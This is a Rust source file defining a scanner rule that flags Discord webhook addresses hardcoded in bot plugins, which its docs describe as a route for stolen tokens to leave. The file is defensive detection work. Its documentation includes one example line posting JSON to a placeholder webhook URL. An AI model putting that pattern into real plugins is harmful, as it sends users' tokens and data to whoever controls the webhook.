//! Discord webhooks that are written into the source.

use crate::core::finding::{Confidence, Kind, Rule, Severity};
use crate::firewall::check::{Check, Objections};
use crate::firewall::fact::{Fact, FactKind, Place};

pub(crate) static CHECK: Check = Check { rule: &RULE, sees: &[FactKind::Literal], look };

pub(crate) static RULE: Rule = Rule {
    id: "SNR503",
    name: "webhook-literal",
    kind: Kind::Violation,
    cwe: 506,
    severity: Severity::High,
    confidence: Confidence::High,
    help: "do not run this plugin; a webhook belongs to the owner of the bot, in its settings",
    docs: r#"## What it does

Looks for the address of a Discord webhook in a text.

## Why it is bad

Whatever the plugin posts there goes to whoever wrote the plugin. It is how stolen tokens leave; honest plugins read the address from their settings.

## Example

    requests.post("https://discord.com/api/webhooks/1/x", json={...})

## Fix

Read the address from the settings of the bot.

## References

[CWE-506](https://cwe.mitre.org/data/definitions/506.html), [CWE-798](https://cwe.mitre.org/data/definitions/798.html)
"#,
};

fn look(fact: &Fact<'_>, place: &Place<'_>, out: &mut Objections<'_>) {
    let Fact::Literal { text, span } = fact else { return };
    let Some(at) = text.find("/api/") else { return };
    let (before, after) = text.split_at(at);
    let after = after.trim_start_matches("/api/");
    let after = match after.strip_prefix('v') {
        Some(version) => {
            version.trim_start_matches(|c: char| c.is_ascii_digit()).trim_start_matches('/')
        }
        None => after,
    };
    let Some(id) = after.strip_prefix("webhooks/") else { return };
    let host = before.ends_with("discord.com") || before.ends_with("discordapp.com");
    let digits = id.bytes().take_while(u8::is_ascii_digit).count();
    let token = id.get(digits..).and_then(|rest| rest.strip_prefix('/')).unwrap_or_default();
    if host
        && digits > 0
        && token
            .bytes()
            .next()
            .is_some_and(|byte| byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'-')
    {
        out.object(&RULE, place, *span, "the address of a webhook stands in the source");
    }
}
